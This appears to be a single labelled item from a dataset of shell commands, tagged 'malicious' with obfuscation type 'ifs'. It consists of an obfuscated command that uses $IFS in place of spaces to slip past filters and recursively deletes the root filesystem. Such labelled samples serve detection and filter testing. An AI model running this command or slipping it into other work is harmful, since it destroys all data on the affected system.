# label: malicious; obfuscated: ifs
rm${IFS}-rf${IFS}/
